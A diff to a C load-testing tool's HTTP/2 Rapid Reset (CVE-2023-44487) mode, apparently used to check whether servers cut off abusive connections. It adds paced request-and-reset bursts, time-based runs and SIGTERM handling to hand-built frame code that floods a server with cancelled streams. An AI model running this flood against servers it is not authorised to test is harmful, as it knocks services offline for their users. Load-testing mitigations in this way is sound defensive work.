@@ -1,7 +1,8 @@
 /*
  * Rapid reset (CVE-2023-44487): requests over HTTP/2 that are taken back at once, so that the
  * client has none open and the server has begun all of them. --clients connections at a time do
- * that until the server ends them, and then come back; until --requests were reset.
+ * that until the server ends them, and then come back: until --requests were reset, and on until
+ * --seconds are over or SIGTERM.
  *
  * Frames are written by hand: no library would send this. Says "ready" when the server has ended
  * the first connection, and then how many it has ended, and how.
@@ -16,8 +17,10 @@
 #include "load.h"
 
 enum {
-    BURST = 50,            /* requests, then as many resets */
-    BURSTS_MAX = 200,      /* of a connection: so many are never borne */
+    BURST = 50,  /* requests, then as many resets */
+    BURSTS = 12, /* of a connection without a pause: a few more than it is borne for */
+    BURSTS_MAX = 1000,
+    PAUSE_MS = 20,
     DEADLINE_S = 60,       /* for the server to end it */
     GOAWAY_ROOM = 1 << 16, /* of what it says until then */
     FRAME_HEAD_LEN = 9,
@@ -102,11 +105,11 @@ static bool send_burst(struct storm *storm, struct link *l, struct vd_buf *out, 
     return true;
 }
 
-/* Whether the server has said its last word. */
-static bool has_ended(const struct link *l)
+/* Whether the server says its last word in that time. */
+static bool has_ended(const struct link *l, int wait_ms)
 {
     struct pollfd state = {.fd = l->fd, .events = POLLRDHUP};
-    return poll(&state, 1, 0) != 0;
+    return poll(&state, 1, wait_ms) != 0;
 }
 
 /* One connection, until the server has ended it. */
@@ -121,7 +124,7 @@ static void storm_once(struct storm *storm)
     vd_buf_add_text(&out, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
     add_frame(&out, FRAME_SETTINGS, 0, 0, VD_SLICE(""));
     bool going = link_send(&l, vd_buf_slice(&out));
-    for (uint32_t i = 0; going && !has_ended(&l) && i < BURSTS_MAX; i++)
+    for (uint32_t i = 0; going && !has_ended(&l, i < BURSTS ? 0 : PAUSE_MS) && i < BURSTS_MAX; i++)
         going = send_burst(storm, &l, &out, 1 + 2 * i * BURST);
     ssize_t n;
     while ((n = link_receive(&l, room, GOAWAY_ROOM)) > 0)
@@ -140,7 +143,7 @@ static void storm_once(struct storm *storm)
 static void *storm_on(void *arg)
 {
     struct storm *storm = arg;
-    while (atomic_load(&storm->resets) < load.requests) {
+    while (atomic_load(&storm->resets) < load.requests || !load_stops_within(0)) {
         storm_once(storm);
         if (!atomic_exchange(&storm->ready, true)) {
             puts("ready");
@@ -155,6 +158,7 @@ void mode_resets(void)
     struct storm storm = {0};
     pthread_t *threads = vd_calloc(load.clients + 1, sizeof *threads);
     uint64_t start_ns = load_now_ns();
+    load_stop_on_signal();
     write_block(&storm.block);
     for (unsigned i = 0; i < load.clients; i++)
         pthread_create(&threads[i], NULL, storm_on, &storm);
